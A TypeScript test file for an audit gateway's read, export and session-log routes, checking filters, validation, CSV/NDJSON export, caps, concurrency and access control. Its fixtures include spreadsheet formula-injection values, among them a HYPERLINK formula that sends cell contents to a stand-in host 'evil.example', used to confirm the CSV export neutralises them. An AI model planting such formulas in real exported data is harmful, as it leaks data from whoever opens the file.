import { create } from '@bufbuild/protobuf';
import { timestampDate, timestampFromDate } from '@bufbuild/protobuf/wkt';
import {
  ActorKind,
  AuditEventSchema,
  type ListAuditSessionEventsRequest,
  Outcome,
  type QueryAuditEventsRequest,
  Rpc,
  RpcErrorCode,
  type StoredAuditEvent,
  StoredAuditEventSchema,
} from '@ferry/contracts';
import { type MessagingClient, RpcException } from '@ferry/platform/messaging';
import { parse } from 'csv-parse/sync';
import { AUDIT_EXPORT_LIMITS, type AuditExportLimits } from './audit-export';
import { natsTestNamespace, TEST_NATS_URL } from '@ferry/platform/testing';
import { type AuditGateway, startAuditGateway } from './audit-gateway.fixture';
import { AUDIT_CSV_HEADER } from './audit-record.view';

const ORG = '0b6f4c3e-3d2a-4c1b-9f8e-7a6b5c4d3e2f';
const OTHER_ORG = '5d1e2f3a-4b5c-4d6e-8f7a-9b0c1d2e3f4a';
/** Small limits, so the cap and the concurrency bound can be reached. */
const LIMITS: AuditExportLimits = { maxRows: 1200, perOrg: 1 };
/** Values a spreadsheet would run as formulas, or that need quoting. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\rCR', 'a "quoted", comma\r\nand a line break'];
const RECORDS = 1100;

/** Record `n` (1-based) as the stand-in audit service stores it; a few carry hostile values. */
function record(n: number): StoredAuditEvent {
  const hostile = n <= HOSTILE.length ? HOSTILE[n - 1]! : undefined;
  return create(StoredAuditEventSchema, {
    sequence: BigInt(n),
    event: create(AuditEventSchema, {
      id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
      orgId: ORG,
      occurredAt: timestampFromDate(new Date(Date.UTC(2026, 0, 1) + n * 1000)),
      action: n % 2 ? 'api.call' : 'auth.signin.succeeded',
      actor: { kind: ActorKind.ACCOUNT, id: hostile ?? `acc-${n % 3}` },
      target: { type: 'route', id: hostile ?? `/api/v1/orgs/:org/x${n}` },
      outcome: Outcome.SUCCESS,
      sourceAddress: '203.0.113.7',
      userAgent: hostile ?? 'curl/8',
      traceId: 'a'.repeat(32),
      sessionId: n % 10 === 0 ? 'sess-a' : '',
      detail: hostile ? { note: hostile } : { method: 'GET', status: '200' },
    }),
  });
}
const NEWEST_FIRST = Array.from({ length: RECORDS }, (_, i) => record(RECORDS - i));

describe('the gateway’s audit read routes: filters, exports and session logs', () => {
  const ns = natsTestNamespace('gwauditread');
  let gateway: AuditGateway;
  const queries: QueryAuditEventsRequest[] = [];
  const sessions: ListAuditSessionEventsRequest[] = [];
  /** Opens the gate the second page of a "slow" export waits at. */
  let releaseSlow!: () => void;
  const slowGate = new Promise<void>((resolve) => (releaseSlow = resolve));

  // A stand-in audit service: pages of RECORDS newest first (cursor = offset); some actors behave oddly.
  const serveAudit = async (audit: MessagingClient) => {
    await audit.serve(Rpc.audit.query, async (req) => {
      queries.push(req);
      const actor = req.filter?.actorId ?? '';
      if (actor === 'refused') throw new RpcException(RpcErrorCode.INVALID_ARGUMENT, 'actor must be visible characters only', [{ field: 'actor', reason: 'must be visible characters only' }]);
      const offset = req.cursor ? Number(req.cursor) : 0;
      if (actor === 'broken' && offset > 0) throw new RpcException(RpcErrorCode.UNAVAILABLE, 'database unavailable');
      if (actor === 'slow' && offset > 0) await slowGate;
      const total = actor === 'many' ? 5000 : RECORDS;
      const size = req.limit || 100;
      const events = NEWEST_FIRST.slice(offset, offset + size);
      return { events, nextCursor: offset + size < RECORDS ? String(offset + size) : '', matched: BigInt(Math.min(total, req.countLimit)) };
    });
    await audit.serve(Rpc.audit.sessionEvents, async (req) => {
      sessions.push(req);
      const events = req.sessionId === 'sess-a' ? NEWEST_FIRST.filter((r) => r.event?.sessionId === 'sess-a').reverse().slice(0, req.limit || 100) : [];
      return { events, nextCursor: req.sessionId === 'sess-a' ? 'next' : '' };
    });
  };

  beforeAll(async () => {
    gateway = await startAuditGateway({ name: 'gwauditread', natsUrl: TEST_NATS_URL, prefix: ns.prefix, org: ORG, serveAudit, providers: [{ provide: AUDIT_EXPORT_LIMITS, useValue: LIMITS }] });
  });
  afterAll(async () => {
    releaseSlow();
    await gateway.close();
    await ns.cleanup();
  });

  const get = async (path: string, roles = ['auditor'], org = ORG) => fetch(`${gateway.base}/${org}/audit${path}`, { headers: { authorization: `Bearer ${await gateway.sign({ roles })}` } });
  const json = async <T = Record<string, unknown>>(res: Response) => (await res.json()) as T;

  it('forwards every filter to the audit service and answers a page, sessions included', async () => {
    const res = await get('?from=2026-01-01T00:10:00%2B01:00&to=2026-01-02&actor=acc-1&action=auth&target=route:/api/v1/orgs/:org/x2&outcome=denied&limit=3');
    expect(res.status).toBe(200);
    const body = await json<{ items: { sequence: string; sessionId: string; actor: { id: string } }[]; nextCursor: string }>(res);
    expect(body.items.map((i) => i.sequence)).toEqual(['1100', '1099', '1098']);
    expect(body.items[0]).toMatchObject({ sessionId: 'sess-a', actor: { kind: 'account', id: 'acc-2' }, outcome: 'success' });
    expect(body.nextCursor).toBe('3');
    const req = queries.at(-1)!;
    expect({ ...req.filter, from: timestampDate(req.filter!.from!).toISOString(), to: timestampDate(req.filter!.to!).toISOString(), $typeName: undefined }).toEqual({
      $typeName: undefined,
      from: '2025-12-31T23:10:00.000Z',
      to: '2026-01-02T00:00:00.000Z',
      actorId: 'acc-1',
      action: 'auth',
      targetType: 'route',
      targetId: '/api/v1/orgs/:org/x2',
      outcome: Outcome.DENIED,
    });
    expect(req).toMatchObject({ orgId: ORG, limit: 3, cursor: '', countLimit: 0 });
    expect(req.caller?.accessToken).toBeTruthy();
    await get('?cursor=3');
    expect(queries.at(-1)).toMatchObject({ cursor: '3', limit: 0 });
  });

  it('refuses malformed parameters with 400 naming them, before asking the audit service', async () => {
    const count = queries.length;
    for (const bad of [
      'from=2026-02-30',
      'from=2026-01-01T10:00:00',
      'to=tomorrow',
      'to=2026-01-01&to=2026-01-02',
      'actor=',
      `actor=${'a'.repeat(513)}`,
      'target=:x',
      'target=route:',
      'outcome=maybe',
      'limit=0',
      'limit=abc',
      'cursor=',
    ]) {
      const res = await get(`?${bad}`);
      const name = bad.split('=')[0]!;
      expect({ bad, status: res.status, named: (await json<{ message: string }>(res)).message.includes(`query parameter ${name}`) }).toEqual({ bad, status: 400, named: true });
    }
    expect((await get('/export?format=xlsx')).status).toBe(400);
    expect(queries).toHaveLength(count);
  });

  it('answers the audit service’s own refusals with 400 and the field', async () => {
    const res = await get('?actor=refused');
    expect([res.status, await res.json()]).toEqual([400, expect.objectContaining({ violations: [{ field: 'actor', reason: 'must be visible characters only' }] })]);
  });

  it('exports every matching record as NDJSON, paging the service 500 at a time, as an attachment', async () => {
    const before = queries.length;
    const res = await get('/export?format=ndjson&action=api');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="ferry-audit-${ORG}-\\d{8}T\\d{6}Z\\.ndjson"$`));
    const text = await res.text();
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as { sequence: string; sessionId: string; detail: Record<string, string> });
    expect(lines.map((l) => l.sequence)).toEqual(NEWEST_FIRST.map((r) => r.sequence.toString()));
    expect(lines[0]).toMatchObject({ sessionId: 'sess-a', detail: { method: 'GET', status: '200' } });
    const pages = queries.slice(before);
    expect(pages.map((q) => [q.cursor, q.limit, q.countLimit, q.filter?.action])).toEqual([
      ['', 500, LIMITS.maxRows + 1, 'api'],
      ['500', 500, 0, 'api'],
      ['1000', 500, 0, 'api'],
    ]);
  });

  it('exports CSV with a header row, RFC 4180 quoting and formula cells neutralised, that parses back', async () => {
    const res = await get('/export?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="ferry-audit-.+\.csv"$/);
    const rows = parse(await res.text());
    expect(rows[0]).toEqual([...AUDIT_CSV_HEADER]);
    expect(rows).toHaveLength(RECORDS + 1);
    const bySequence = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(bySequence.get('1100')).toEqual([
      '1100',
      '00000000-0000-4000-8000-000000001100',
      '2026-01-01T00:18:20.000Z',
      'auth.signin.succeeded',
      'account',
      'acc-2',
      'route',
      '/api/v1/orgs/:org/x1100',
      'success',
      '203.0.113.7',
      'curl/8',
      'a'.repeat(32),
      'sess-a',
      '{"method":"GET","status":"200"}',
    ]);
    HOSTILE.forEach((value, i) => {
      const row = bySequence.get(String(i + 1))!;
      const shown = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      expect({ value, actor: row[5], target: row[7], agent: row[10], detail: JSON.parse(row[13]!) as unknown }).toEqual({ value, actor: shown, target: shown, agent: shown, detail: { note: value } });
    });
    expect(rows.slice(1).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('refuses an export matching more records than the cap before sending anything', async () => {
    const res = await get('/export?actor=many');
    expect(res.status).toBe(400);
    expect((await json<{ message: string }>(res)).message).toContain('more than 1,200 records');
  });

  it('resets the connection when a later page fails, so a broken export never looks complete', async () => {
    const res = await get('/export?format=csv&actor=broken');
    expect(res.status).toBe(200);
    await expect(res.text()).rejects.toThrow();
  });

  it('runs a bounded number of exports per organisation at once', async () => {
    const slow = await get('/export?actor=slow');
    expect(slow.status).toBe(200);
    const reading = slow.text();
    const second = await get('/export');
    expect([second.status, second.headers.get('retry-after')]).toEqual([429, '30']);
    releaseSlow();
    expect((await reading).trimEnd().split('\n')).toHaveLength(RECORDS);
    expect((await get('/export')).status).toBe(200);
  });

  it('reads a session’s log oldest first; an unknown session is an empty list, not a 404', async () => {
    const res = await get('/sessions/sess-a?limit=2');
    expect(res.status).toBe(200);
    const body = await json<{ sessionId: string; items: { sequence: string }[]; nextCursor: string | null }>(res);
    expect(body).toMatchObject({ sessionId: 'sess-a', nextCursor: 'next' });
    expect(body.items.map((i) => i.sequence)).toEqual(['10', '20']);
    expect(sessions.at(-1)).toMatchObject({ orgId: ORG, sessionId: 'sess-a', limit: 2, cursor: '' });
    const unknown = await get('/sessions/nobody');
    expect([unknown.status, await unknown.json()]).toEqual([200, { sessionId: 'nobody', items: [], nextCursor: null }]);
    expect((await get('/sessions/sess-a?limit=9x')).status).toBe(400);
  });

  it('lets only auditor and org-admin read, and hides another organisation’s trail', async () => {
    const asked = queries.length + sessions.length;
    for (const path of ['', '/export?format=csv', '/sessions/sess-a']) {
      for (const roles of [['viewer'], ['migration-operator']]) expect({ path, roles, status: (await get(path, roles)).status }).toEqual({ path, roles, status: 403 });
      expect({ path, status: (await get(path, ['auditor'], OTHER_ORG)).status }).toEqual({ path, status: 404 });
      expect({ path, status: (await fetch(`${gateway.base}/${ORG}/audit${path}`)).status }).toEqual({ path, status: 401 });
    }
    expect(queries.length + sessions.length).toBe(asked);
    expect((await get('', ['org-admin'])).status).toBe(200);
    expect((await get('/sessions/sess-a', ['org-admin'])).status).toBe(200);
  });
});
